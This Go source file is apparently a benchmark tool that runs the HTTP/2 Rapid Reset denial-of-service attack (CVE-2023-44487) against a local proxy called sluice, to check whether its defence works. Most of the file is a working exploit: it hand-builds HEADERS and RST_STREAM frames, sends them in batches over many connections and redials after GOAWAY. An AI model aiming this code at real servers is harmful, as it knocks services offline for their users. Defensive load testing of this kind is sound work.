// Command attack is the attacker (and the origin) of bench/attack.sh: it
// runs HTTP/2 Rapid Reset (CVE-2023-44487) against sluice at full speed,
// from several connections, for a fixed time. Each connection writes
// HEADERS + RST_STREAM(CANCEL) pairs in large writes, never waiting for
// an answer; when sluice ends the connection (GOAWAY ENHANCE_YOUR_CALM),
// it dials again, as a real attacker would.
//
// With -serve it is instead the origin server: /small answers 64 bytes,
// paths under /attack are counted (GET /stats prints the count), so the
// script can tell how many attack requests reached a backend.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:18800", "sluice h2c listener to attack")
	conns := flag.Int("conns", 4, "concurrent attacking connections")
	dur := flag.Duration("duration", 10*time.Second, "attack duration")
	authority := flag.String("authority", "localhost", ":authority of the attack requests")
	pairs := flag.Int("batch", 64, "HEADERS+RST_STREAM pairs per write (more than the 50 that end a connection)")
	pause := flag.Duration("pause", 50*time.Millisecond, "after a write, wait this long for sluice to end the connection before writing more (0: write without pause)")
	serve := flag.String("serve", "", "run the origin server on this address instead of attacking")
	flag.Parse()
	if *serve != "" {
		origin(*serve)
		return
	}
	var st stats
	deadline := time.Now().Add(*dur)
	var wg sync.WaitGroup
	for range *conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				st.dials.Add(1)
				if err := attack(*addr, *authority, *pairs, *pause, deadline, &st); err != nil {
					st.errors.Add(1)
					time.Sleep(10 * time.Millisecond) // refused: do not spin
				}
			}
		}()
	}
	wg.Wait()
	fmt.Printf("attack: %d connections, %d HEADERS+RST_STREAM pairs written (sluice reads only those before its GOAWAY), %d GOAWAY(ENHANCE_YOUR_CALM) read, %d other GOAWAYs, %d dial errors\n",
		st.dials.Load(), st.streams.Load(), st.calm.Load(), st.otherGoAway.Load(), st.errors.Load())
}

type stats struct {
	dials, streams, calm, otherGoAway, errors atomic.Int64
}

// Frame types and flags (RFC 9113 6).
const (
	typeHeaders   = 0x1
	typeRSTStream = 0x3
	typeSettings  = 0x4
	typeGoAway    = 0x7
	typeWindowUpd = 0x8

	flagEndStream  = 0x1
	flagEndHeaders = 0x4
)

func appendFrame(b []byte, typ, flags byte, id uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, id&0x7fffffff)
	return append(b, payload...)
}

// requestBlock is a GET for /attack/rapid-reset, HPACK-encoded without the
// dynamic table (RFC 7541 6.1, 6.2.2), so every HEADERS can carry the same
// bytes.
func requestBlock(authority string) []byte {
	path := "/attack/rapid-reset"
	b := []byte{0x82, 0x86} // :method GET, :scheme http
	b = append(b, 0x04, byte(len(path)))
	b = append(b, path...)
	b = append(b, 0x01, byte(len(authority)))
	return append(b, authority...)
}

// attack runs one connection until sluice closes it or the deadline.
func attack(addr, authority string, pairs int, pause time.Duration, deadline time.Time, st *stats) error {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(deadline.Add(5 * time.Second))
	// Read and discard what sluice sends, noting its GOAWAY.
	var calm atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		r := bufio.NewReaderSize(c, 64<<10)
		var h [9]byte
		for {
			if _, err := io.ReadFull(r, h[:]); err != nil {
				return
			}
			n := int(h[0])<<16 | int(h[1])<<8 | int(h[2])
			payload := make([]byte, n)
			if _, err := io.ReadFull(r, payload); err != nil {
				return
			}
			if h[3] == typeGoAway && n >= 8 {
				calm.Store(true)
				if binary.BigEndian.Uint32(payload[4:8]) == 0xb {
					st.calm.Add(1)
				} else {
					st.otherGoAway.Add(1)
				}
			}
		}
	}()
	out := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	out = appendFrame(out, typeSettings, 0, 0, nil)
	out = appendFrame(out, typeWindowUpd, 0, 0, binary.BigEndian.AppendUint32(nil, 1<<30))
	block := requestBlock(authority)
	rst := binary.BigEndian.AppendUint32(nil, 0x8) // CANCEL
	id := uint32(1)
	for time.Now().Before(deadline) {
		for range pairs {
			out = appendFrame(out, typeHeaders, flagEndStream|flagEndHeaders, id, block)
			out = appendFrame(out, typeRSTStream, 0, id, rst)
			id += 2
		}
		if _, err := c.Write(out); err != nil {
			break // sluice closed the connection (after its GOAWAY)
		}
		st.streams.Add(int64(pairs))
		out = out[:0]
		// A remote attacker would keep writing; this one shares a core
		// with the load generator, and every pair written after sluice's
		// GOAWAY is wasted on that core (sluice reads no further). So by
		// default it gives sluice a moment to answer before it writes
		// more: a sluice whose defence works ends the connection by then,
		// one whose defence failed gets the next batch soon after.
		if pause > 0 {
			select {
			case <-done:
				return nil
			case <-time.After(pause):
			}
		} else {
			select {
			case <-done:
				return nil
			default:
			}
		}
		if calm.Load() {
			break
		}
		if id > 1<<30 {
			break
		}
	}
	c.Close()
	<-done
	return nil
}

// origin is the backend: like bench/backend, plus a count of the attack
// requests that reached it.
func origin(addr string) {
	var attacks atomic.Int64
	small := bytes.Repeat([]byte("s"), 64)
	mux := http.NewServeMux()
	mux.HandleFunc("/small", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", strconv.Itoa(len(small)))
		w.Write(small)
	})
	mux.HandleFunc("/attack/", func(w http.ResponseWriter, r *http.Request) {
		attacks.Add(1)
		w.Write([]byte("ok"))
	})
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "%d\n", attacks.Load())
	})
	srv := &http.Server{Addr: addr, Handler: mux, ReadHeaderTimeout: 10 * time.Second}
	log.SetOutput(os.Stderr)
	log.Fatal(srv.ListenAndServe())
}
